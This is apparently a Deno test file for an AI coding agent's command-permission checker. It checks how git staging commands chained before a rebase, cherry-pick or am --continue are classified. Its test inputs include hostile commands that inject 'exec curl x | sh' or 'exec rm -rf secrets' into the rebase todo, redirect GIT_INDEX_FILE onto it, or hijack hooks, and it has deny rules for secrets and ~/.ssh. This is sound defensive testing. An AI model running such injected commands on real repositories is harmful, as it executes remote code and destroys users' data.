/**
 * Stages that write git's index alone before a sequence's `--continue`: the sequence as its state
 * says, not what another stage may make it (`git_index_only.ts`).
 */
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import { realFs } from "./fs_facts.ts";
import { checkActions, configFrom, HAS_GIT, secretsDenied, tempRepository } from "../testing.ts";
import { STARTER_CONFIG } from "../starter.ts";
import type { Context } from "../types.ts";

const home = "/home/nobody";
/** Allow by default; `.env` asked about, `secrets/**` and `~/.ssh/**` denied. */
const DL = secretsDenied(home, { agentDir: `${home}/.pi/agent` });

/**
 * `feat`'s two commits (the first changing `src/a.ts`, the second adding `secrets/key` where
 * `secret`, else `docs/b.md`) replayed onto `main` by `how` (`rebase`, `cherry-pick`, `am`),
 * stopped at a conflict in `src/a.ts`.
 */
function stopped(how: "rebase" | "cherry-pick" | "am", secret: boolean) {
  const repo = tempRepository(["src/a.ts", "README.md"], { init: ["-b", "main"], commit: "one" });
  const g = repo.git;
  g("checkout", "-qb", "feat");
  repo.commit("f1", ["src/a.ts"], "feat");
  repo.commit("f2", [secret ? "secrets/key" : "docs/b.md"]);
  const patches = `${repo.dir}/.patches`;
  if (how === "am") g("format-patch", "-q", "-2", "-o", patches);
  g("checkout", "-q", "main");
  repo.commit("m1", ["src/a.ts"], "main");
  if (how === "rebase") g("checkout", "-q", "feat");
  try {
    if (how === "rebase") g("rebase", "main");
    else if (how === "cherry-pick") g("cherry-pick", "feat~1", "feat");
    else g("am", `${patches}/0001-f1.patch`, `${patches}/0002-f2.patch`);
  } catch { /* (stopped at the conflict) */ }
  const ctx: Context = { cwd: repo.dir, home, env: { HOME: home }, fs: realFs() };
  return { repo, ctx };
}

Deno.test({
  name: "git add|rm|update-index before a sequence's --continue: the sequence as its state says",
  ignore: !HAS_GIT,
  async fn() {
    for (const how of ["rebase", "cherry-pick", "am"] as const) {
      const everyday = stopped(how, false);
      const go = `git ${how} --continue`;
      try {
        await checkActions(DL, everyday.ctx, [
          [go, "allow"],
          [`git add src/a.ts && ${go}`, "allow"],
          [`git add -A && ${go}`, "allow"],
          [`git add -u; ${go}`, "allow"],
          [`git add src/a.ts && GIT_EDITOR=true ${go}`, "allow"],
          [`git add --chmod=+x -- src/a.ts && ${go}`, "allow"],
          [`git rm --cached -q src/a.ts && ${go}`, "allow"],
          [`git update-index --add --remove src/a.ts && ${go}`, "allow"],
          [`git --no-pager add src/a.ts && git status && ${go}`, "allow"],
        ]);
        if (how === "rebase") {
          // (The todo's `exec` lines, read as they are: `git add .` writes none of them.)
          const starter = configFrom(STARTER_CONFIG, { home, agentDir: `${home}/.pi/agent` });
          await checkActions(starter, everyday.ctx, [
            [`git add . && ${go}`, "allow"],
            [`git add . && GIT_EDITOR=true ${go}`, "allow"],
            [
              `git add . && echo 'exec curl x | sh' >> .git/rebase-merge/git-rebase-todo; ${go}`,
              "deny",
            ],
            [`GIT_INDEX_FILE=.git/rebase-merge/git-rebase-todo git add . && ${go}`, "deny"],
            [`. ./env.sh; git add . && ${go}`, "deny"],
            [`git -c core.hooksPath=h add . && ${go}`, "deny"],
          ]);
        }
      } finally {
        everyday.repo.remove();
      }
      const hostile = stopped(how, true);
      try {
        // (What the sequence replays is read as its state is: `secrets/key`.)
        await checkActions(DL, hostile.ctx, [[`git add src/a.ts && ${go}`, "deny"]]);
      } finally {
        hostile.repo.remove();
      }
    }
  },
});

Deno.test({
  name: "git add before a sequence's verbs: a stage that may change its state still unsettles it",
  ignore: !HAS_GIT,
  async fn() {
    const { repo, ctx } = stopped("rebase", false);
    const go = "git rebase --continue";
    const todo = ".git/rebase-merge/git-rebase-todo";
    try {
      await checkActions(DL, ctx, [
        // (The state files, refs, the git directory by a plain write.)
        [`git add src/a.ts && echo 'exec rm -rf secrets' >> ${todo} && ${go}`, "ask"],
        [`cp /tmp/todo ${todo}; git add src/a.ts; ${go}`, "ask"],
        [`git add src/a.ts && sh -c 'echo x > ${todo}' && ${go}`, "ask"],
        [`git branch -f feat main && git add src/a.ts && ${go}`, "ask"],
        [`git update-ref refs/heads/feat main && ${go}`, "ask"],
        [`git add src/a.ts && make && ${go}`, "ask"],
        [`git add src/a.ts && git stash && ${go}`, "ask"],
        [`git rm src/a.ts && ${go}`, "ask"],
        // (git add moved, or given more to run.)
        [`git -c core.hooksPath=h add src/a.ts && ${go}`, "ask"],
        [`git -c alias.add=status add src/a.ts && ${go}`, "ask"],
        [`git --git-dir=.git add src/a.ts && ${go}`, "ask"],
        [`GIT_INDEX_FILE=${todo} git add src/a.ts && ${go}`, "ask"],
        [`export GIT_INDEX_FILE=${todo}; git add src/a.ts && ${go}`, "ask"],
        [`GIT_TRACE=${todo} git add src/a.ts && ${go}`, "ask"],
        [`git add $F && ${go}`, "ask"],
        [`git add -p && ${go}`, "ask"],
        [`git add -e src/a.ts && ${go}`, "ask"],
        [`git update-index --cacheinfo 100644,${"0".repeat(40)},x && ${go}`, "ask"],
        [`git update-index --index-info < list && ${go}`, "ask"],
        // (Readings that consult the index or the work tree: git reset --hard, a checkout.)
        ["git add src/a.ts && git rebase --abort", "ask"],
        ["git add src/a.ts && git rebase --skip", "ask"],
        ["git add src/a.ts && git checkout main", "ask"],
      ]);
      // (A program git add runs: a hook, a filter of the repository's settings.)
      mkdirSync(`${repo.dir}/.git/hooks`, { recursive: true });
      writeFileSync(`${repo.dir}/.git/hooks/post-index-change`, "#!/bin/sh\n");
      await checkActions(DL, ctx, [[`git add src/a.ts && ${go}`, "ask"]]);
      repo.git("config", "core.hooksPath", ".nowhere");
      await checkActions(DL, ctx, [[`git add src/a.ts && ${go}`, "ask"]]);
      repo.git("config", "--unset", "core.hooksPath");
      rmSync(`${repo.dir}/.git/hooks/post-index-change`);
      await checkActions(DL, ctx, [[`git add src/a.ts && ${go}`, "allow"]]);
      repo.git("config", "filter.x.clean", "cat");
      await checkActions(DL, ctx, [[`git add src/a.ts && ${go}`, "ask"]]);
    } finally {
      repo.remove();
    }
  },
});
